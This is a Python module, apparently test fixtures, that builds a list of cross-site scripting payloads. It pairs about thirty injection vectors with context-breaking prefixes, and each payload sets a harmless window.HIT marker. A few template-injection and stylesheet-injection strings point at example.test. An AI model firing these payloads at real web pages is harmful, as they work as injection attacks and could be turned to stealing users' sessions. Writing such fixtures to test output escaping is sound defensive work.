"""Texts that would run a script if any page took them for anything but text; each would set `window.HIT`."""

from __future__ import annotations

BREAKOUTS = ("", '">', "'>", "</script></title></style></textarea>", "--></svg>")

VECTORS = (
    "<script>window.HIT=1</script>",
    "<img src=x onerror=window.HIT=1>",
    "<svg onload=window.HIT=1>",
    "<body onload=window.HIT=1>",
    "<iframe srcdoc='<script>parent.HIT=1</script>'></iframe>",
    "<iframe src=javascript:parent.HIT=1></iframe>",
    "<details open ontoggle=window.HIT=1>x</details>",
    "<input autofocus onfocus=window.HIT=1>",
    "<video><source onerror=window.HIT=1></video>",
    "<audio src=x onerror=window.HIT=1>",
    "<marquee onstart=window.HIT=1>x</marquee>",
    "<object data='data:text/html,<script>parent.HIT=1</script>'></object>",
    "<embed src=javascript:window.HIT=1>",
    "<a href=javascript:window.HIT=1>x</a>",
    "<math><mtext><style><img src onerror=window.HIT=1></style></mtext></math>",
    "<template><script>window.HIT=1</script></template>",
    "<style>@import 'http://example.test/x.css';</style>",
    "<link rel=stylesheet href=http://example.test/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:window.HIT=1'>",
    "<base href=http://example.test/>",
    "<form action=javascript:window.HIT=1><button autofocus>x</button></form>",
    "<svg><animate onbegin=window.HIT=1 attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src onerror=window.HIT=1></foreignObject></svg>",
    "<noscript><p title='</noscript><img src onerror=window.HIT=1>'>",
    "javascript:window.HIT=1//",
    "{{constructor.constructor('window.HIT=1')()}}${window.HIT=1}<%= 7*7 %>",
    "\\u003cscript>window.HIT=1\\u003c/script>\\x3cimg src onerror=window.HIT=1>",
    "&lt;script&gt;window.HIT=1&lt;/script&gt;&#60;img src onerror=window.HIT=1&#62;",
    "');window.HIT=1;//]);window.HIT=1;//",
    '\u2028window.HIT=1//\u2029\\";window.HIT=1;//',
)

PAYLOADS = tuple(f"{breakout}{vector}" for vector in VECTORS for breakout in BREAKOUTS)
